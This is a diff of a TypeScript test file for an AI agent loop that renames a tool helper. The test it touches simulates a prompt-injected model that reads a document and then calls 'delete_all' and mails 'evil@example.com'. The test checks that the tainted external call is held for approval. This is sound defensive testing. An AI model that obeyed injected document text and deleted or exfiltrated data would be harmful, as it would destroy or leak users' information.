@@ -1,7 +1,7 @@
 import type { DoubleRequest } from "@muster/models/openai-frames.double";
 import { afterEach, describe, expect, it } from "vitest";
 import { resumeAgent } from "./agent-loop.ts";
-import { call, closeSetups, messagesOf, noting, runStored, setUp, start } from "./agent-setup.factory.ts";
+import { call, closeSetups, messagesOf, recordingTool, runStored, setUp, start } from "./agent-setup.factory.ts";
 
 afterEach(closeSetups);
 
@@ -77,8 +77,8 @@ describe("a model that obeys whatever a document says", () => {
       return index === 1 ? { toolCalls: [call("delete_all", "x")] } : { toolCalls: [call("mail", "evil@example.com")] };
     });
     const tools = [
-      noting("look", "read", setup.made, () => ({ text: orders })),
-      noting("mail", "external", setup.made),
+      recordingTool("look", "read", setup.made, () => ({ text: orders })),
+      recordingTool("mail", "external", setup.made),
     ];
     const { outcome } = await runStored(start(), { ...setup.deps, tools, needsApproval: () => false });
     expect(outcome).toMatchObject({ kind: "needs_approval", call: { tool: "mail", isTainted: true } });
